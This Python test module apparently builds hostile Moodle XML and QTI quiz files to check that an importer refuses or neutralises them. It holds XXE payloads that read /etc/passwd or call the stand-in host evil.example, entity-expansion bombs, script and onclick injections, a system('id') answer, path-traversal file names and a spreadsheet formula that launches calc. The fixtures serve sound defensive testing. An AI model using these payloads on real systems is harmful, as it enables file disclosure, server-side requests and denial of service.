"""Hostile files of XML: Moodle's, and QTI items and QTI 1.2 files that come without a package."""

# A line each, however long, reads best.
# ruff: noqa: E501

from .file import Hostile, read, refused

DOCTYPE = "document type or entities"
QTI2 = 'xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1"'


def moodle(inner: str, head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return f"{head}<quiz>{inner}</quiz>"


def choice(
    stem: str = "Which?", *answers: tuple[str, str], name: str = "n", single: str = "true", more: str = ""
) -> str:
    """A question of several answers, each a share and a text."""
    given = "".join(
        f'<answer fraction="{share}" format="html"><text>{text}</text></answer>'
        for share, text in (answers or (("100", "Yes"), ("0", "No")))
    )
    return (
        f'<question type="multichoice"><name><text>{name}</text></name><questiontext format="html"><text>{stem}</text>'
        f"{more}</questiontext><single>{single}</single>{given}</question>"
    )


def numerical(answer: str, tolerance: str = "0", more: str = "") -> str:
    return (
        '<question type="numerical"><name><text>n</text></name><questiontext format="html"><text>How much?</text>'
        f'</questiontext><answer fraction="100"><text>{answer}</text><tolerance>{tolerance}</tolerance></answer>{more}'
        "</question>"
    )


def picture(name: str, data: str, src: str = "") -> str:
    """A question with an embedded file."""
    src = src or f"@@PLUGINFILE@@/{name}"
    return choice(
        f'&lt;img src="{src}" alt="A"&gt; Which?', more=f'<file name="{name}" path="/" encoding="base64">{data}</file>'
    )


def laughs(root: str) -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f"<?xml version='1.0'?><!DOCTYPE {root} [{entities}]><{root}>&a11;</{root}>"


def quadratic(root: str) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY a "{"x" * 100_000}">]><{root}>{"&a;" * 10_000}</{root}>'


MOODLE: tuple[Hostile, ...] = (
    refused("empty.xml", "moodle_xml", b"", "empty"),
    refused("xxe-file.xml", "moodle_xml", moodle(choice("&x;"), '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), DOCTYPE),
    refused("xxe-http.xml", "moodle_xml", moodle(choice("&x;"), '<!DOCTYPE quiz [<!ENTITY x SYSTEM "http://evil.example/x">]>'), DOCTYPE),
    refused("xxe-parameter.xml", "moodle_xml", moodle(choice(), '<!DOCTYPE quiz [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'), DOCTYPE),
    refused("external-dtd.xml", "moodle_xml", moodle(choice(), '<!DOCTYPE quiz SYSTEM "http://evil.example/quiz.dtd">'), DOCTYPE),
    refused("public-dtd.xml", "moodle_xml", moodle(choice(), '<!DOCTYPE quiz PUBLIC "-//X//Y" "file:///dev/random">'), DOCTYPE),
    refused("unparsed-entity.xml", "moodle_xml", moodle(choice(), '<!DOCTYPE quiz [<!NOTATION g SYSTEM "/bin/sh"><!ENTITY x SYSTEM "a" NDATA g>]>'), DOCTYPE),
    refused("billion-laughs.xml", "moodle_xml", lambda: laughs("quiz"), DOCTYPE),
    refused("quadratic.xml", "moodle_xml", lambda: quadratic("quiz"), DOCTYPE),
    refused("undefined-entity.xml", "moodle_xml", moodle(choice("&nbsp;&evil;")), "entity"),
    refused("xinclude.xml", "moodle_xml", '<quiz xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></quiz>', "question"),
    refused("style-sheet.xml", "moodle_xml", '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>' + moodle(choice(), ""), "style sheet"),
    refused("deep.xml", "moodle_xml", lambda: "<quiz>" + "<question>" * 200_000, "nested more than"),
    refused("wide.xml", "moodle_xml", lambda: moodle("<question/>" * 600_000), "elements"),
    refused("many-attributes.xml", "moodle_xml", lambda: moodle("<question " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>"), "attributes"),
    refused("long-tag.xml", "moodle_xml", lambda: moodle(f"<question type='{'x' * 5_000_000}'/>"), "longer than"),
    refused("endless-comment.xml", "moodle_xml", lambda: "<quiz><!--" + "-x" * 5_000_000, "comment"),
    refused("endless-cdata.xml", "moodle_xml", lambda: "<quiz><![CDATA[" + "x" * 20_000_000, "longer than"),
    refused("text-of-20-mb.xml", "moodle_xml", lambda: moodle(choice("x" * 20_000_000)), "longer than"),
    refused("text-of-3-mb.xml", "moodle_xml", lambda: moodle(choice("x" * 3_000_000)), "characters"),
    refused("nul.xml", "moodle_xml", moodle(choice("Wh\0ich?")), "NUL"),
    refused("control.xml", "moodle_xml", moodle(choice("Wh\x08ich?")), "out of place"),
    refused("nul-reference.xml", "moodle_xml", moodle(choice("Wh&#0;ich?")), "well-formed"),
    refused("latin-1-that-says-utf-8.xml", "moodle_xml", moodle(choice("Caf%?")).encode().replace(b"%", b"\xe9"), "encoding"),
    refused("utf-7.xml", "moodle_xml", moodle(choice(), '<?xml version="1.0" encoding="UTF-7"?>'), "encoding"),
    refused("ebcdic.xml", "moodle_xml", moodle(choice(), '<?xml version="1.0" encoding="cp037"?>'), "encoding"),
    refused("utf-16-that-is-not.xml", "moodle_xml", moodle(choice(), '<?xml version="1.0" encoding="UTF-16"?>'), "well-formed"),
    refused("two-roots.xml", "moodle_xml", moodle(choice(), "") * 2, "well-formed"),
    refused("crossed.xml", "moodle_xml", "<quiz><question></quiz></question>", "closing tag"),
    refused("not-a-quiz.xml", "moodle_xml", "<html><body onload='alert(1)'/></html>", "html"),
    refused("doubled-attribute.xml", "moodle_xml", '<quiz><question type="essay" type="numerical"/></quiz>', "well-formed"),
    refused("nan-share.xml", "moodle_xml", moodle(choice("Which?", ("NaN", "a"), ("100", "b"))), "not a percentage"),
    refused("infinite-share.xml", "moodle_xml", moodle(choice("Which?", ("inf", "a"), ("1e999", "b"))), "not a percentage"),
    refused("share-of-200.xml", "moodle_xml", moodle(choice("Which?", ("200", "a"), ("-300", "b"))), "100"),
    refused("nan-number.xml", "moodle_xml", moodle(numerical("NaN")), "number"),
    refused("infinite-number.xml", "moodle_xml", moodle(numerical("1e999999999")), "number"),
    refused("negative-tolerance.xml", "moodle_xml", moodle(numerical("1", "-5")), "tolerance"),
    refused("number-of-digits.xml", "moodle_xml", lambda: moodle(numerical("9" * 500_000)), "number"),
    refused("10000-answers.xml", "moodle_xml", lambda: moodle(choice("Which?", *[("0", "no")] * 10_000)), "at most"),
    refused("calculated-code.xml", "moodle_xml", moodle('<question type="calculated"><name><text>c</text></name><questiontext><text>x</text></questiontext><answer fraction="100"><text>1;system("id")</text></answer></question>'), "calculated"),
    refused("cloze-never-closed.xml", "moodle_xml", moodle('<question type="cloze"><name><text>c</text></name><questiontext><text>A {1:SHORTANSWER:=gap~no</text></questiontext></question>'), "gap"),
    refused("3000-gaps.xml", "moodle_xml", lambda: moodle(f'<question type="cloze"><name><text>c</text></name><questiontext><text>{"{1:SA:=a} " * 3_000}</text></questiontext></question>'), "more than 100 gaps"),
    refused("picture-cut.xml", "moodle_xml", moodle(picture("a.png", "iVBORw0KGgo=")), "picture"),
    refused("picture-not-base64.xml", "moodle_xml", moodle(picture("a.png", "%%%%")), "picture"),
    refused("picture-that-climbs.xml", "moodle_xml", moodle(picture("../../../evil.png", "iVBORw0KGgo=")), "picture"),
    refused("picture-from-disk.xml", "moodle_xml", moodle(picture("a.png", "iVBORw0KGgo=", "file:///etc/passwd")), "picture"),
    refused("picture-from-afar.xml", "moodle_xml", moodle(picture("a.png", "iVBORw0KGgo=", "http://evil.example/a.png")), "picture"),
    read("bidi.xml", "moodle_xml", moodle(choice("\u202eWhich\u202c?"))),
    read("homoglyphs.xml", "moodle_xml", moodle(choice("Whiсh?", ("100", "ulna"), ("0", "ulnа")))),
    read("script-in-cdata.xml", "moodle_xml", moodle(choice("<![CDATA[<p>Which?</p><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>]]>".replace("<img src=x onerror=alert(1)>", "<b onclick=alert(1)>x</b>")))),
    read("html-never-closed.xml", "moodle_xml", lambda: moodle(choice("Which?" + "&lt;b&gt;" * 3_000))),
    read("prefixes.xml", "moodle_xml", f'<q:quiz xmlns:q="urn:x">{choice()}</q:quiz>'.replace("<question ", '<question xmlns="urn:y" ')),
    read("formula.xml", "moodle_xml", moodle(choice("=cmd|' /C calc'!A0", ("100", "@SUM(1)"), ("0", "+1")))),
)  # fmt: skip


def item(inner: str = "", declared: str = "", rules: str = "", ident: str = "i1", head: str = "") -> str:
    body = inner or (
        '<choiceInteraction responseIdentifier="RESPONSE" shuffle="true" maxChoices="1"><prompt>Which?</prompt>'
        '<simpleChoice identifier="A">Yes</simpleChoice><simpleChoice identifier="B">No</simpleChoice></choiceInteraction>'
    )
    says = declared or (
        '<responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse>'
        "<value>A</value></correctResponse></responseDeclaration>"
    )
    return (
        f'{head}<assessmentItem {QTI2} identifier="{ident}" title="t" adaptive="false" timeDependent="false">'
        f"{says}<itemBody>{body}</itemBody>{rules}</assessmentItem>"
    )


def mapped(value: str) -> str:
    return (
        '<responseDeclaration identifier="RESPONSE" cardinality="multiple" baseType="identifier"><correctResponse>'
        f'<value>A</value></correctResponse><mapping defaultValue="0"><mapEntry mapKey="A" mappedValue="{value}"/>'
        "</mapping></responseDeclaration>"
    )


MAP = '<responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/map_response"/>'
TEN = "".join(f'<simpleChoice identifier="x{n}">x</simpleChoice>' for n in range(10))
OLD = '<questestinterop xmlns="http://www.imsglobal.org/xsd/ims_qtiasiv1p2">{}</questestinterop>'

QTI: tuple[Hostile, ...] = (
    refused("xxe.xml", "qti", item("&x;", head='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), DOCTYPE),
    refused("billion-laughs.xml", "qti", lambda: laughs("assessmentItem"), DOCTYPE),
    refused("quadratic.xml", "qti", lambda: quadratic("assessmentItem"), DOCTYPE),
    refused("deep-body.xml", "qti", lambda: item("<div>" * 100_000), "nested more than"),
    refused("deep-conditions.xml", "qti", lambda: item(rules="<responseProcessing>" + "<and>" * 100_000), "nested more than"),
    refused("20000-choices.xml", "qti", lambda: item(f'<choiceInteraction responseIdentifier="RESPONSE" maxChoices="1">{TEN * 2_000}</choiceInteraction>'), "fit"),
    refused("nan-points.xml", "qti", item(declared=mapped("NaN"), rules=MAP), "not a number"),
    refused("infinite-points.xml", "qti", item(declared=mapped("1e999999999"), rules=MAP), "not a number"),
    refused("no-interaction.xml", "qti", item("<p>Only words.</p>"), "answer"),
    read("custom-operator.xml", "qti", item(rules='<responseProcessing><setOutcomeValue identifier="SCORE"><customOperator class="java.lang.Runtime"/></setOutcomeValue></responseProcessing>')),
    refused("picture-from-disk.xml", "qti", item('<p><img src="file:///etc/passwd" alt="x"/></p>' + '<extendedTextInteraction responseIdentifier="RESPONSE"/>'), "picture"),
    refused("data-that-is-no-picture.xml", "qti", item('<p><img src="data:text/html,&lt;script>alert(1)&lt;/script>" alt="x"/></p>' + '<extendedTextInteraction responseIdentifier="RESPONSE"/>'), "picture"),
    refused("old-xxe.xml", "qti", '<!DOCTYPE questestinterop SYSTEM "http://evil.example/ims_qtiasiv1p2.dtd">' + OLD.format(""), DOCTYPE),
    refused("old-empty.xml", "qti", OLD.format(""), "no question"),
    refused("old-deep.xml", "qti", lambda: OLD.format("<section>" * 50_000), "nested more than"),
    refused("old-30000-items.xml", "qti", lambda: OLD.format("<item ident='a'/>" * 30_000), "question"),
    refused("old-loop.xml", "qti", lambda: OLD.format("<item ident='a'><resprocessing>" + "<respcondition continue='Yes'><conditionvar><or>" * 15 + "</or></conditionvar></respcondition>" * 15 + "</resprocessing></item>"), "scoring uses “respcondition”"),
    read("bidi.xml", "qti", item().replace("Which", "\u202eWhich\u202c")),
    read("script.xml", "qti", item().replace("Which?", "Which?<script>alert(1)</script>")),
    read("formula.xml", "qti", item().replace("Which?", "=1+1").replace("Yes", "@SUM(1)")),
)  # fmt: skip
CASES = (*MOODLE, *QTI)
